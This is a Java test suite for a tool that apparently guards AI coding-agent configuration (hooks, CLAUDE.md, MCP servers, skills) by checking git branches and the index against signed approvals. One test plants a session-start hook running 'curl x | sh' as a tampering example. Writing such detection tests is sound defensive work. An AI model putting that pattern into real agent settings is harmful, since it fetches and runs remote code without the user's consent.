package dev.agentguard.verify;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import dev.agentguard.baseline.TrustedSigners;
import dev.agentguard.content.Digest;
import dev.agentguard.content.SnapshotReader;
import dev.agentguard.git.GitFileSystem;
import dev.agentguard.git.GitRepository;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Judging a branch or the index: the same approvals, another place to find the files. */
class TreeVerificationTest {

  private static final String HOOKS =
      """
      {"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "%s"}]}]}}
      """;

  private final Scene scene;
  private final Path workspace;
  private final Git git;

  TreeVerificationTest(@TempDir Path directory) throws Exception {
    scene = new Scene(Files.createDirectory(directory.resolve("scene")));
    workspace = scene.workspace();
    git = Git.at(scene.home());
  }

  @BeforeEach
  void makeAcceptedRepository() throws Exception {
    git.run(workspace, "init", "-q", "-b", "main");
    scene.write("workspace/src/main.c", "int main(void) { return 0; }\n");
    scene.write("workspace/.claude/settings.json", HOOKS.formatted("tools/start.sh"));
    scene.write("workspace/tools/start.sh", "#!/bin/sh\n. ./tools/lib.sh\n");
    scene.write("workspace/tools/lib.sh", "echo\n");
    scene.write("workspace/CLAUDE.md", "# Rules\n");
    scene.accept(Target.Kind.WORKSPACE);
    commit("start");
    git.run(workspace, "checkout", "-q", "-b", "branch");
  }

  private void commit(String message) throws Exception {
    git.run(workspace, "add", "-A");
    git.run(workspace, "commit", "-q", "--allow-empty", "-m", message);
  }

  private GitRepository repository() throws Exception {
    return GitRepository.open(workspace, Map.of(), workspace);
  }

  private Report staged() throws Exception {
    GitRepository repository = repository();
    Optional<GitFileSystem> head =
        repository.find("HEAD").isPresent()
            ? Optional.of(repository.tree(repository.find("HEAD").get(), workspace.toString()))
            : Optional.empty();
    return verify(repository.index(workspace.toString()), head, true);
  }

  private Report against(String base) throws Exception {
    GitRepository repository = repository();
    GitRepository.Revision target = repository.find(base).orElseThrow();
    return verify(
        repository.merged(repository.find("HEAD").orElseThrow(), target, workspace.toString()),
        Optional.of(repository.tree(target, workspace.toString())),
        false);
  }

  private Report verify(GitFileSystem judged, Optional<GitFileSystem> base, boolean firstIdentity)
      throws Exception {
    TreeVerification.Question question =
        new TreeVerification.Question(
            judged, base, firstIdentity, false, scene.home().toString(), "a tree");
    return new TreeVerification(
            Scene.CATALOGUE,
            question,
            TrustedSigners.NONE,
            Instant.EPOCH,
            new SnapshotReader(),
            Severity.LOW)
        .run();
  }

  private void assertClean() throws Exception {
    assertThat(Scene.complaints(staged())).isEmpty();
    assertThat(Scene.complaints(against("main"))).isEmpty();
    assertThat(staged().exitCode()).isZero();
  }

  private static List<Finding.Kind> kinds(Report report) {
    return Scene.failing(report).stream().map(Finding::kind).toList();
  }

  @Test
  void anAcceptedRepositoryIsClean() throws Exception {
    assertClean();
    assertThat(against("main").objects())
        .isEqualTo(scene.verify(Target.Kind.WORKSPACE).objects())
        .isGreaterThanOrEqualTo(4);
  }

  @Test
  void theIndexIsJudgedAndNotTheFiles() throws Exception {
    scene.write("workspace/CLAUDE.md", "# Other rules\n");
    assertThat(staged().exitCode()).isZero();
    git.run(workspace, "add", "CLAUDE.md");
    scene.write("workspace/CLAUDE.md", "# Rules\n");
    assertThat(Scene.failing(staged()))
        .extracting(Finding::kind, Finding::path)
        .containsExactly(tuple(Finding.Kind.CHANGED, "CLAUDE.md"));
    assertThat(scene.verify(Target.Kind.WORKSPACE).exitCode()).isZero();
  }

  @Test
  void aChangeOnABranchIsFoundWithItsKeys() throws Exception {
    scene.write("workspace/.claude/settings.json", HOOKS.formatted("curl x | sh"));
    scene.write("workspace/tools/lib.sh", "evil\n");
    commit("evil");
    Report report = against("main");
    assertThat(report.exitCode()).isEqualTo(1);
    assertThat(Scene.failing(report)).extracting(Finding::path).contains(".claude/settings.json");
    assertThat(Scene.failing(report).get(0).keys())
        .anySatisfy(key -> assertThat(key.before().orElse("")).contains("tools/start.sh"));
    assertThat(report.target()).isEqualTo("a tree");
  }

  @Test
  void aScriptThatAScriptSourcesBelongsToIt() throws Exception {
    scene.write("workspace/tools/lib.sh", "evil\n");
    commit("evil");
    assertThat(Scene.failing(against("main")))
        .extracting(Finding::path)
        .containsExactly("tools/lib.sh");
  }

  @Test
  void anApprovedChangeIsClean() throws Exception {
    scene.write("workspace/CLAUDE.md", "# Better rules\n");
    scene.accept(Target.Kind.WORKSPACE, Set.of("CLAUDE.md"));
    commit("approved");
    assertClean();
  }

  /** What the base has accepted since the branch left it does not alarm the branch. */
  @Test
  void aBranchThatIsBehindIsJudgedAsMerged() throws Exception {
    scene.write("workspace/src/main.c", "int other;\n");
    commit("ordinary");
    git.run(workspace, "checkout", "-q", "main");
    scene.write("workspace/CLAUDE.md", "# Newer rules\n");
    scene.accept(Target.Kind.WORKSPACE, Set.of("CLAUDE.md"));
    commit("newer");
    git.run(workspace, "checkout", "-q", "branch");
    assertThat(Scene.complaints(against("main"))).isEmpty();
  }

  @Test
  void anApprovalThatIsTakenAwayWithTheFile() throws Exception {
    git.run(workspace, "rm", "-q", "-r", ".guard/approvals", "CLAUDE.md");
    commit("gone");
    assertThat(kinds(against("main"))).contains(Finding.Kind.APPROVAL, Finding.Kind.REMOVED);
    assertThat(Scene.complaints(against("main"))).contains("it was taken away");
  }

  @Test
  void anApprovalThatIsChanged() throws Exception {
    Path approval = approval();
    String text = Files.readString(approval);
    Files.writeString(approval, text.replace("because", "therefore"));
    commit("changed");
    assertThat(kinds(against("main"))).containsExactly(Finding.Kind.APPROVAL);
    git.run(workspace, "checkout", "-q", "main");
    assertThat(Scene.complaints(against("main"))).isEmpty();
  }

  private Path approval() throws Exception {
    try (Stream<Path> files = Files.list(workspace.resolve(".guard/approvals"))) {
      return files.findFirst().orElseThrow();
    }
  }

  @Test
  void anIdentityThatIsChangedOrGone() throws Exception {
    Path identity = workspace.resolve(".guard/repository");
    String text = Files.readString(identity);
    Files.writeString(identity, text.replaceFirst("[0-9a-f]{8}-", "01234567-"));
    commit("other");
    assertThat(Scene.complaints(against("main"))).contains("names another repository");
    git.run(workspace, "rm", "-q", ".guard/repository");
    assertThat(Scene.complaints(staged())).contains("is gone");
  }

  @Test
  void anOldApprovalThatIsPutBackWinsNothing() throws Exception {
    git.run(workspace, "checkout", "-q", "main");
    scene.write("workspace/CLAUDE.md", "# Newer rules\n");
    scene.accept(Target.Kind.WORKSPACE, Set.of("CLAUDE.md"));
    commit("newer");
    git.run(workspace, "checkout", "-q", "-B", "branch");
    scene.write("workspace/CLAUDE.md", "# Rules\n");
    Files.copy(approval(), workspace.resolve(".guard/approvals/000001-zzzzzzzz.approval"));
    commit("back");
    assertThat(Scene.failing(against("main"))).extracting(Finding::path).contains("CLAUDE.md");
  }

  @Test
  void aBaseWithoutABaseline() throws Exception {
    git.run(workspace, "checkout", "-q", "--orphan", "bare");
    git.run(workspace, "rm", "-q", "-r", "--cached", ".guard");
    git.run(workspace, "commit", "-q", "-m", "without");
    assertThatThrownBy(() -> against("bare")).isInstanceOf(NoBaselineException.class);
    assertThatThrownBy(this::staged).isInstanceOf(NoBaselineException.class);
    git.run(workspace, "add", ".guard");
    assertThat(Scene.complaints(staged())).isEmpty();
  }

  @Test
  void theFirstCommitOfAll() throws Exception {
    Scene.delete(workspace.resolve(".git"));
    git.run(workspace, "init", "-q");
    git.run(workspace, "add", "-A");
    assertThat(Scene.complaints(staged())).isEmpty();
    scene.write("workspace/.mcp.json", "{\"mcpServers\": {\"a\": {\"command\": \"x\"}}}");
    git.run(workspace, "add", "-A");
    assertThat(kinds(staged())).containsExactly(Finding.Kind.CREATED);
  }

  @Test
  void signersOfTheRepositoryAreProtected() throws Exception {
    scene.write("workspace/.guard/allowed_signers", "eve@example.com ssh-ed25519 AAAA\n");
    commit("signer");
    assertThat(Scene.failing(against("main")))
        .extracting(Finding::kind, Finding::path)
        .containsExactly(tuple(Finding.Kind.CREATED, ".guard/allowed_signers"));
  }

  /** What leads out of the repository is judged where it leads to, on the machine that has it. */
  @Test
  void whatLeadsOutOfTheRepositoryIsClean() throws Exception {
    scene.write("home/bin/tool.sh", "echo\n");
    scene.write("workspace/.claude/settings.json", HOOKS.formatted("~/bin/tool.sh && node a.js"));
    scene.write("workspace/a.js", "1\n");
    scene.write(
        "workspace/.mcp.json",
        "{\"mcpServers\": {\"a\": {\"command\": \""
            + workspace
            + "/tools/start.sh\"}, \"b\": {\"command\": \"python3\", \"args\": [\"b.py\"]},"
            + " \"c\": {\"command\": \"/usr/bin/env\"}}}");
    scene.write("workspace/b.py", "print()\n");
    scene.write("workspace/nested/.claude/settings.json", HOOKS.formatted("./run.sh"));
    scene.write("workspace/nested/run.sh", "echo\n");
    scene.write("workspace/skills/review/SKILL.md", "---\nname: review\n---\nText.\n");
    Files.createDirectories(workspace.resolve(".cursor"));
    Files.createSymbolicLink(workspace.resolve(".claude/skills"), Path.of("../skills"));
    Files.createSymbolicLink(workspace.resolve("AGENTS.md"), Path.of("CLAUDE.md"));
    Files.createSymbolicLink(workspace.resolve(".cursorrules"), Path.of("/nowhere/rules"));
    scene.write("workspace/.gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = ../x\n");
    scene.accept(Target.Kind.WORKSPACE);
    commit("all");
    assertClean();
    scene.write("workspace/nested/run.sh", "evil\n");
    scene.write("workspace/skills/review/SKILL.md", "---\nname: review\n---\nEvil.\n");
    commit("evil");
    assertThat(Scene.failing(against("main")))
        .extracting(Finding::path)
        .containsExactlyInAnyOrder("nested/run.sh", "skills/review/SKILL.md");
  }

  @Test
  void collidingSpellings() throws Exception {
    String blob =
        git.feed(
            workspace, "evil".getBytes(StandardCharsets.UTF_8), "hash-object", "-w", "--stdin");
    git.run(workspace, "update-index", "--add", "--cacheinfo", "100644," + blob + ",Claude.MD");
    assertThat(Scene.complaints(staged())).contains("another spelling of CLAUDE.md");
  }

  @Test
  void largeFilesAreJudgedByTheirPointers() throws Exception {
    String content = "a large server\n".repeat(100);
    scene.write("workspace/tools/start.sh", content);
    scene.write("workspace/.claude/skills/s/SKILL.md", "---\nname: s\n---\n");
    scene.write("workspace/.claude/skills/s/model.bin", content);
    scene.accept(Target.Kind.WORKSPACE);
    commit("content");
    git.run(workspace, "branch", "-f", "main");
    String digest = Digest.of(content.getBytes(StandardCharsets.UTF_8)).hex();
    String pointer =
        "version https://git-lfs.github.com/spec/v1\noid sha256:"
            + digest
            + "\nsize "
            + content.length()
            + "\n";
    scene.write("workspace/.claude/skills/s/model.bin", pointer);
    commit("pointer");
    // Nothing says yet that a filter makes the content: the tools may read the pointer itself.
    assertThat(against("main").problems())
        .contains(
            new Problem(
                ".claude/skills/s/model.bin",
                "its content is in Git LFS, which guard does not fetch"));
    assertThat(against("main").exitCode()).isEqualTo(2);
    git.run(workspace, "branch", "-f", "main");
    scene.write("workspace/src/main.c", "other\n");
    commit("other");
    assertThat(Scene.complaints(against("main"))).isEmpty();
    for (String other :
        List.of(pointer.replace(digest, "0".repeat(64)), pointer + "x", " " + pointer)) {
      scene.write("workspace/.claude/skills/s/model.bin", other);
      commit("other");
      assertThat(Scene.failing(against("main")))
          .extracting(Finding::path)
          .containsExactly(".claude/skills/s/model.bin");
    }
    scene.write("workspace/.claude/skills/s/model.bin", pointer);
    scene.write("workspace/.claude/settings.json", pointer);
    commit("unreadable");
    assertThat(against("main").problems())
        .extracting(Problem::path)
        .containsExactly(".claude/settings.json");
    assertThat(against("main").exitCode()).isEqualTo(2);
  }

  @Test
  void aPointerInPlaceOfAcceptedContentIsNotBelieved() throws Exception {
    for (String path : List.of("CLAUDE.md", ".github/copilot-instructions.md")) {
      scene.write("workspace/" + path, "# Rules of " + path + "\n");
    }
    scene.accept(Target.Kind.WORKSPACE);
    commit("accepted");
    git.run(workspace, "branch", "-f", "main");
    assertClean();
    for (String path : List.of("CLAUDE.md", ".github/copilot-instructions.md")) {
      Path file = workspace.resolve(path);
      byte[] content = Files.readAllBytes(file);
      Files.writeString(
          file,
          "version https://git-lfs.github.com/spec/v1\noid sha256:"
              + Digest.of(content).hex()
              + "\nsize "
              + content.length
              + "\n");
      commit("pointer");
      Report report = against("main");
      assertThat(report.problems())
          .containsExactly(
              new Problem(path, "its content is in Git LFS, which guard does not fetch"));
      assertThat(report.exitCode()).isEqualTo(2);
      Report first = verify(repository().index(workspace.toString()), Optional.empty(), true);
      assertThat(first.problems()).extracting(Problem::path).containsExactly(path);
      boolean never = path.startsWith(".github");
      assertThat(staged().exitCode()).as(path).isEqualTo(never ? 2 : 0);
      Files.write(file, content);
      commit("content");
      assertClean();
    }
  }

  @Test
  void submodules() throws Exception {
    String head = git.run(workspace, "rev-parse", "HEAD").strip();
    git.run(workspace, "update-index", "--add", "--cacheinfo", "160000," + head + ",vendor/lib");
    Report report = staged();
    assertThat(Scene.complaints(report)).isEmpty();
    assertThat(report.uncovered()).extracting(Report.Gap::path).contains("vendor/lib");
    git.run(workspace, "update-index", "--add", "--cacheinfo", "160000," + head + ",.cursor");
    assertThat(Scene.failing(staged()))
        .extracting(Finding::kind, Finding::path)
        .containsExactly(tuple(Finding.Kind.UNVERIFIABLE, ".cursor"));
  }

  @Test
  void anUndecidedMergeIsNotClean() throws Exception {
    scene.write("workspace/src/main.c", "branch\n");
    commit("branch");
    git.run(workspace, "checkout", "-q", "main");
    scene.write("workspace/src/main.c", "main\n");
    commit("main");
    assertThat(git.succeeds(workspace, "merge", "branch")).isFalse();
    assertThat(staged().problems()).extracting(Problem::path).containsExactly("src/main.c");
  }

  @Test
  void approvalsOfWhatIsNotTheRepositorysOwn() throws Exception {
    scene.write("workspace/CLAUDE.md", "# Better rules\n");
    scene.accept(Target.Kind.WORKSPACE, Set.of("CLAUDE.md"));
    try (Stream<Path> files = Files.list(workspace.resolve(".guard/approvals"))) {
      for (Path file : files.filter(f -> f.toString().contains("000002")).toList()) {
        Files.writeString(
            file, Files.readString(file).replace(" CLAUDE.md", " .git/hooks/pre-commit"));
      }
    }
    commit("foreign");
    assertThat(against("main").exitCode()).isEqualTo(2);
    assertThat(Scene.complaints(against("main"))).contains("not the repository's own content");
  }
}
